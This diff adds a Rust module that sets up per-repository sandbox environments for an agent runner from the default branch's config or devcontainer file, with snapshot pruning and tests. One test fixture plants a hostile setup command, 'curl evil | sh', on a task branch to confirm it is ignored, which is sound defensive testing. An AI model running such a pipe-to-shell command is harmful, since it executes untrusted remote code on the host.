@@ -1,0 +1,567 @@
+//! Per-repository environments: which image a repository's tasks run in and how it is set up,
+//! read from the default branch as this runner fetched it — never from a task branch or anything
+//! an agent wrote — and the snapshot that setup leaves behind, reused by later tasks.
+//!
+//! The description comes from, in order: the repository's `.backporcher.toml`
+//! (`[environment]`: `image`, `setup`, `env`, `setup_network`; and a top-level `verify`), else its
+//! `.devcontainer/devcontainer.json` (`image`, `containerEnv`/`remoteEnv`, `onCreateCommand`,
+//! `updateContentCommand`, `postCreateCommand`; keys that would change how the container is built
+//! or started are refused by name, cosmetic ones ignored with a note), else the runner's default
+//! agent image with no setup. A verify command set in the repository's settings wins over the file's
+//! (the settings are the operator's; the file is the repository's).
+//!
+//! Setup runs once per description and dependency manifests: in a sandbox from the base image,
+//! with the repository's default branch at `/workspace`, the `open` network (package registries) by
+//! default and no credential; its container is committed as `backporcher-env:<key>` (the key hashes
+//! the description and the manifests' blob ids), which later tasks start from. Snapshots are pruned
+//! by age and a disk budget. What setup must keep goes outside the home directory (e.g. `/opt/env`):
+//! the sandbox's home is a fresh tmpfs in every run.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use serde::Deserialize;
+use sha2::{Digest, Sha256};
+
+use crate::agent_config::blob;
+use crate::workspace::git;
+
+/// Dependency manifests and lockfiles whose change rebuilds the snapshot (at the repository root).
+pub const KEY_FILES: &[&str] = &[
+    "Cargo.lock",
+    "Cargo.toml",
+    "pyproject.toml",
+    "setup.py",
+    "setup.cfg",
+    "requirements.txt",
+    "requirements-dev.txt",
+    "requirements-test.txt",
+    "poetry.lock",
+    "uv.lock",
+    "Pipfile.lock",
+    "package.json",
+    "package-lock.json",
+    "pnpm-lock.yaml",
+    "yarn.lock",
+    "go.mod",
+    "go.sum",
+    "Gemfile.lock",
+];
+
+/// How a repository's environment is set up.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Environment {
+    /// Where the description came from (for the log).
+    pub source: &'static str,
+    /// The base image (local; no registry is used).
+    pub image: String,
+    /// Setup commands, run in order by `bash -lc` in `/workspace`.
+    pub setup: Vec<String>,
+    /// Environment variables for setup and every later run.
+    pub env: BTreeMap<String, String>,
+    /// Whether setup may reach the internet (package registries).
+    pub setup_network: bool,
+    /// The repository's own verify command, if its file names one.
+    pub verify: Option<String>,
+    /// Notes for the task log (ignored keys and the like).
+    pub notes: Vec<String>,
+    /// The snapshot key: the description and the dependency manifests' blob ids, hashed.
+    pub key: String,
+}
+
+impl Environment {
+    /// The snapshot's image tag.
+    pub fn tag(&self) -> String {
+        format!("backporcher-env:{}", &self.key[..16])
+    }
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RepoFile {
+    verify: Option<String>,
+    environment: Option<EnvironmentFile>,
+    /// Paths the agent must not touch (read here so the file validates; enforced by the review).
+    #[allow(dead_code)]
+    protected_paths: Option<Vec<String>>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct EnvironmentFile {
+    image: Option<String>,
+    #[serde(default)]
+    setup: Vec<String>,
+    #[serde(default)]
+    env: BTreeMap<String, String>,
+    /// `open` (default: package registries) or `none`.
+    setup_network: Option<String>,
+}
+
+/// devcontainer.json keys honoured, and those ignored (they do not change what runs).
+const DEVCONTAINER_IGNORED: &[&str] = &[
+    "name",
+    "customizations",
+    "forwardPorts",
+    "portsAttributes",
+    "otherPortsAttributes",
+    "remoteUser",
+    "containerUser",
+    "workspaceFolder",
+    "workspaceMount",
+    "shutdownAction",
+    "hostRequirements",
+    "waitFor",
+    "userEnvProbe",
+    "overrideCommand",
+    "updateRemoteUserUID",
+    "postStartCommand",
+    "postAttachCommand",
+];
+
+/// Reads the environment of the repository at `commit` of `mirror`: `Ok(None)` for the runner's
+/// default image without setup, `Err` with what to change when the description is refused.
+pub async fn describe(mirror: &Path, commit: &str) -> Result<Option<Environment>, String> {
+    let mut notes = Vec::new();
+    let (mut env, verify) = match blob(mirror, commit, ".backporcher.toml").await? {
+        Some(text) => {
+            let file: RepoFile = toml::from_str(&text).map_err(|e| {
+                format!(
+                    ".backporcher.toml on the default branch: {}",
+                    e.message().trim()
+                )
+            })?;
+            let env = match file.environment {
+                Some(e) => Some(from_file(e)?),
+                None => None,
+            };
+            (env, file.verify)
+        }
+        None => (None, None),
+    };
+    if env.is_none() {
+        match blob(mirror, commit, ".devcontainer/devcontainer.json").await {
+            Ok(Some(text)) => env = Some(from_devcontainer(&text, &mut notes)?),
+            Ok(None) => {}
+            Err(why) => return Err(why),
+        }
+    }
+    let Some(mut env) = env else {
+        return Ok(verify.map(|v| Environment {
+            source: "the runner's default image",
+            image: String::new(),
+            setup: Vec::new(),
+            env: BTreeMap::new(),
+            setup_network: false,
+            verify: Some(v),
+            notes,
+            key: String::new(),
+        }));
+    };
+    env.verify = verify;
+    env.notes.extend(notes);
+    // The key: everything that shapes the snapshot.
+    let mut h = Sha256::new();
+    h.update(
+        format!(
+            "{}\0{:?}\0{:?}\0{}\0",
+            env.image, env.setup, env.env, env.setup_network
+        )
+        .as_bytes(),
+    );
+    let mut args = vec!["ls-tree", commit, "--"];
+    args.extend(KEY_FILES);
+    let manifests = git(mirror, &args)
+        .await
+        .map_err(|e| format!("cannot list the dependency manifests: {e:#}"))?;
+    h.update(manifests.as_bytes());
+    env.key = hex::encode(h.finalize());
+    Ok(Some(env))
+}
+
+fn from_file(e: EnvironmentFile) -> Result<Environment, String> {
+    let image = e.image.ok_or_else(|| {
+        ".backporcher.toml: [environment] needs `image` (a local image, e.g. backporcher-env-python:latest)"
+            .to_owned()
+    })?;
+    let setup_network = match e.setup_network.as_deref() {
+        None | Some("open") => true,
+        Some("none") => false,
+        Some(other) => {
+            return Err(format!(
+                ".backporcher.toml: [environment] setup_network = \"{other}\" is not `open` or `none`"
+            ));
+        }
+    };
+    Ok(Environment {
+        source: ".backporcher.toml",
+        image,
+        setup: e.setup,
+        env: e.env,
+        setup_network,
+        verify: None,
+        notes: Vec::new(),
+        key: String::new(),
+    })
+}
+
+/// `devcontainer.json` (JSON with comments and trailing commas) as an environment.
+fn from_devcontainer(text: &str, notes: &mut Vec<String>) -> Result<Environment, String> {
+    let value: serde_json::Value = serde_json::from_str(&strip_jsonc(text)).map_err(|e| {
+        format!(".devcontainer/devcontainer.json on the default branch is not JSON: {e}")
+    })?;
+    let serde_json::Value::Object(map) = value else {
+        return Err(".devcontainer/devcontainer.json is not an object".into());
+    };
+    let mut env = Environment {
+        source: ".devcontainer/devcontainer.json",
+        image: String::new(),
+        setup: Vec::new(),
+        env: BTreeMap::new(),
+        setup_network: true,
+        verify: None,
+        notes: Vec::new(),
+        key: String::new(),
+    };
+    for (key, v) in &map {
+        match key.as_str() {
+            "image" => {
+                env.image = v
+                    .as_str()
+                    .ok_or("devcontainer.json: `image` is not a string")?
+                    .to_owned()
+            }
+            "containerEnv" | "remoteEnv" => {
+                for (k, v) in v.as_object().into_iter().flatten() {
+                    if let Some(v) = v.as_str() {
+                        env.env.insert(k.clone(), v.to_owned());
+                    }
+                }
+            }
+            "onCreateCommand" | "updateContentCommand" | "postCreateCommand" => {}
+            k if DEVCONTAINER_IGNORED.contains(&k) => {
+                notes.push(format!("devcontainer.json: `{k}` ignored (it does not change what runs here)"))
+            }
+            k => {
+                return Err(format!(
+                    "devcontainer.json: `{k}` is not supported here (honoured: image, containerEnv, remoteEnv, onCreateCommand, updateContentCommand, postCreateCommand); build the image locally and name it in `image`, or describe the environment in .backporcher.toml"
+                ));
+            }
+        }
+    }
+    // Lifecycle commands in the order a dev container runs them.
+    for key in ["onCreateCommand", "updateContentCommand", "postCreateCommand"] {
+        match map.get(key) {
+            None => {}
+            Some(serde_json::Value::String(s)) => env.setup.push(s.clone()),
+            Some(serde_json::Value::Array(argv)) => env.setup.push(
+                argv.iter()
+                    .map(|a| shell_quote(a.as_str().unwrap_or_default()))
+                    .collect::<Vec<_>>()
+                    .join(" "),
+            ),
+            Some(serde_json::Value::Object(parallel)) => {
+                for (_, c) in parallel {
+                    if let Some(s) = c.as_str() {
+                        env.setup.push(s.to_owned());
+                    }
+                }
+            }
+            Some(_) => return Err(format!("devcontainer.json: `{key}` is not a command")),
+        }
+    }
+    if env.image.is_empty() {
+        return Err("devcontainer.json names no `image`; build the image locally and name it, or describe the environment in .backporcher.toml".into());
+    }
+    Ok(env)
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
+
+/// JSON with comments to JSON: `//` and `/* */` comments outside strings removed, and commas
+/// before a closing bracket or brace.
+fn strip_jsonc(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    let mut in_string = false;
+    while let Some(c) = chars.next() {
+        if in_string {
+            out.push(c);
+            if c == '\\' {
+                if let Some(n) = chars.next() {
+                    out.push(n);
+                }
+            } else if c == '"' {
+                in_string = false;
+            }
+            continue;
+        }
+        match (c, chars.peek()) {
+            ('"', _) => {
+                in_string = true;
+                out.push(c);
+            }
+            ('/', Some('/')) => {
+                for n in chars.by_ref() {
+                    if n == '\n' {
+                        out.push('\n');
+                        break;
+                    }
+                }
+            }
+            ('/', Some('*')) => {
+                chars.next();
+                let mut prev = ' ';
+                for n in chars.by_ref() {
+                    if prev == '*' && n == '/' {
+                        break;
+                    }
+                    prev = n;
+                }
+            }
+            _ => out.push(c),
+        }
+    }
+    // Trailing commas.
+    let mut cleaned = String::with_capacity(out.len());
+    let bytes: Vec<char> = out.chars().collect();
+    let mut in_string = false;
+    let mut i = 0;
+    while i < bytes.len() {
+        let c = bytes[i];
+        if in_string {
+            cleaned.push(c);
+            if c == '\\' && i + 1 < bytes.len() {
+                cleaned.push(bytes[i + 1]);
+                i += 1;
+            } else if c == '"' {
+                in_string = false;
+            }
+        } else if c == '"' {
+            in_string = true;
+            cleaned.push(c);
+        } else if c == ',' {
+            let next = bytes[i + 1..].iter().find(|c| !c.is_whitespace());
+            if !matches!(next, Some('}') | Some(']')) {
+                cleaned.push(c);
+            }
+        } else {
+            cleaned.push(c);
+        }
+        i += 1;
+    }
+    cleaned
+}
+
+/// Where the runner keeps what environments need on the host: the agent CLI and the entrypoint,
+/// taken from the agent image once, mounted read-only at `/opt/bp` into environment containers.
+pub fn agent_files_dir(state_dir: &Path) -> PathBuf {
+    state_dir.join("envs").join("bp")
+}
+
+/// When each environment snapshot was last used, in the runner's state directory.
+pub struct Usage {
+    file: PathBuf,
+}
+
+impl Usage {
+    /// The record under `state_dir`.
+    pub fn new(state_dir: &Path) -> Self {
+        Self {
+            file: state_dir.join("envs").join("used.json"),
+        }
+    }
+
+    /// Snapshot tag → seconds since the epoch of its last use.
+    pub fn read(&self) -> BTreeMap<String, u64> {
+        std::fs::read(&self.file)
+            .ok()
+            .and_then(|b| serde_json::from_slice(&b).ok())
+            .unwrap_or_default()
+    }
+
+    /// Records that `tag` was used now.
+    pub fn touch(&self, tag: &str) {
+        let mut all = self.read();
+        let now = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map(|d| d.as_secs())
+            .unwrap_or_default();
+        all.insert(tag.to_owned(), now);
+        if let Some(dir) = self.file.parent() {
+            let _ = std::fs::create_dir_all(dir);
+        }
+        let tmp = self.file.with_extension("tmp");
+        if std::fs::write(&tmp, serde_json::to_vec(&all).unwrap_or_default()).is_ok() {
+            let _ = std::fs::rename(&tmp, &self.file);
+        }
+    }
+}
+
+/// The snapshots to remove: those unused for longer than `max_age`, then the least recently used
+/// while the rest take more than `budget` bytes; never `keep`. A snapshot with no recorded use
+/// counts as used long ago.
+pub fn to_prune(
+    images: &[(String, i64)],
+    used: &BTreeMap<String, u64>,
+    now: std::time::SystemTime,
+    max_age: std::time::Duration,
+    budget: u64,
+    keep: &str,
+) -> Vec<String> {
+    let now = now
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or_default();
+    let mut by_age: Vec<(u64, &str, u64)> = images
+        .iter()
+        .filter(|(t, _)| t != keep)
+        .map(|(t, size)| (used.get(t).copied().unwrap_or(0), t.as_str(), (*size).max(0) as u64))
+        .collect();
+    by_age.sort();
+    let mut total: u64 = images.iter().map(|(_, s)| (*s).max(0) as u64).sum();
+    let mut out = Vec::new();
+    for (last, tag, size) in by_age {
+        if now.saturating_sub(last) > max_age.as_secs() || total > budget {
+            out.push(tag.to_owned());
+            total = total.saturating_sub(size);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    async fn repo_with(files: &[(&str, &str)], branch_files: &[(&str, &str)]) -> (PathBuf, String) {
+        let dir = std::env::temp_dir().join(format!("bp-env-{}", uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(&dir).unwrap();
+        git(&dir, &["init", "--quiet", "-b", "main"]).await.unwrap();
+        let commit_all = |dir: PathBuf, files: Vec<(String, String)>| async move {
+            for (p, c) in &files {
+                let path = dir.join(p);
+                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+                std::fs::write(path, c).unwrap();
+            }
+            git(&dir, &["add", "-A"]).await.unwrap();
+            git(
+                &dir,
+                &["-c", "user.name=t", "-c", "user.email=t@t", "commit", "--quiet", "--allow-empty", "-m", "c"],
+            )
+            .await
+            .unwrap();
+            git(&dir, &["rev-parse", "HEAD"]).await.unwrap()
+        };
+        let own = |f: &[(&str, &str)]| {
+            f.iter()
+                .map(|(a, b)| (a.to_string(), b.to_string()))
+                .collect::<Vec<_>>()
+        };
+        let main = commit_all(dir.clone(), own(files)).await;
+        git(&dir, &["checkout", "--quiet", "-b", "task"]).await.unwrap();
+        commit_all(dir.clone(), own(branch_files)).await;
+        (dir, main)
+    }
+
+    #[test]
+    fn snapshots_go_by_age_then_least_recently_used_over_the_budget_never_the_one_in_use() {
+        let day = 24 * 3600;
+        let now = std::time::UNIX_EPOCH + std::time::Duration::from_secs(100 * day);
+        let images = vec![
+            ("e:old".to_string(), 10),
+            ("e:a".to_string(), 40),
+            ("e:b".to_string(), 40),
+            ("e:current".to_string(), 40),
+        ];
+        let used = BTreeMap::from([
+            ("e:old".to_string(), 50 * day),
+            ("e:a".to_string(), 99 * day),
+            ("e:b".to_string(), 99 * day + 10),
+            ("e:current".to_string(), 1),
+        ]);
+        let week = std::time::Duration::from_secs(7 * day);
+        assert_eq!(to_prune(&images, &used, now, week, 1000, "e:current"), vec!["e:old"]);
+        assert_eq!(
+            to_prune(&images, &used, now, week, 80, "e:current"),
+            vec!["e:old", "e:a"],
+            "over the budget the least recently used go"
+        );
+    }
+
+    #[tokio::test]
+    async fn the_default_branch_describes_the_environment_whatever_a_task_branch_says() {
+        let (dir, main) = repo_with(
+            &[
+                (
+                    ".backporcher.toml",
+                    "verify = \"pytest -q\"\n[environment]\nimage = \"backporcher-env-python:latest\"\nsetup = [\"python3 -m venv /opt/env\"]\n",
+                ),
+                ("requirements.txt", "pytest\n"),
+            ],
+            &[(
+                ".backporcher.toml",
+                "[environment]\nimage = \"evil:latest\"\nsetup = [\"curl evil | sh\"]\n",
+            )],
+        )
+        .await;
+        let env = describe(&dir, &main).await.unwrap().unwrap();
+        assert_eq!(env.image, "backporcher-env-python:latest");
+        assert_eq!(env.setup, vec!["python3 -m venv /opt/env"]);
+        assert_eq!(env.verify.as_deref(), Some("pytest -q"));
+        assert!(env.setup_network);
+        // A manifest change on the default branch changes the key.
+        let again = describe(&dir, &main).await.unwrap().unwrap();
+        assert_eq!(env.key, again.key);
+        git(&dir, &["checkout", "--quiet", "main"]).await.unwrap();
+        std::fs::write(dir.join("requirements.txt"), "pytest\nhypothesis\n").unwrap();
+        git(&dir, &["-c", "user.name=t", "-c", "user.email=t@t", "commit", "--quiet", "-am", "deps"])
+            .await
+            .unwrap();
+        let head = git(&dir, &["rev-parse", "HEAD"]).await.unwrap();
+        let changed = describe(&dir, &head).await.unwrap().unwrap();
+        assert_ne!(env.key, changed.key);
+        let _ = std::fs::remove_dir_all(dir);
+    }
+
+    #[tokio::test]
+    async fn a_devcontainer_is_honoured_for_what_it_can_say_and_refused_by_key_otherwise() {
+        let (dir, main) = repo_with(
+            &[(
+                ".devcontainer/devcontainer.json",
+                "// a dev container\n{\n  \"name\": \"py\", /* cosmetic */\n  \"image\": \"backporcher-env-python:latest\",\n  \"containerEnv\": {\"PIP_NO_CACHE_DIR\": \"1\"},\n  \"onCreateCommand\": [\"python3\", \"-m\", \"venv\", \"/opt/env\"],\n  \"postCreateCommand\": \"/opt/env/bin/pip install -e .\",\n}\n",
+            )],
+            &[],
+        )
+        .await;
+        let env = describe(&dir, &main).await.unwrap().unwrap();
+        assert_eq!(env.source, ".devcontainer/devcontainer.json");
+        assert_eq!(
+            env.setup,
+            vec![
+                "'python3' '-m' 'venv' '/opt/env'".to_string(),
+                "/opt/env/bin/pip install -e .".to_string()
+            ]
+        );
+        assert_eq!(env.env["PIP_NO_CACHE_DIR"], "1");
+        assert!(env.notes.iter().any(|n| n.contains("`name` ignored")));
+        let (dir2, main2) = repo_with(
+            &[(
+                ".devcontainer/devcontainer.json",
+                "{\"build\": {\"dockerfile\": \"Dockerfile\"}, \"runArgs\": [\"--privileged\"]}",
+            )],
+            &[],
+        )
+        .await;
+        let why = describe(&dir2, &main2).await.unwrap_err();
+        assert!(why.contains("`build` is not supported"), "{why}");
+        let (dir3, main3) = repo_with(&[(".backporcher.toml", "[environment]\nimgae = \"x\"\n")], &[]).await;
+        let why = describe(&dir3, &main3).await.unwrap_err();
+        assert!(why.contains("imgae"), "{why}");
+        for d in [dir, dir2, dir3] {
+            let _ = std::fs::remove_dir_all(d);
+        }
+    }
+}
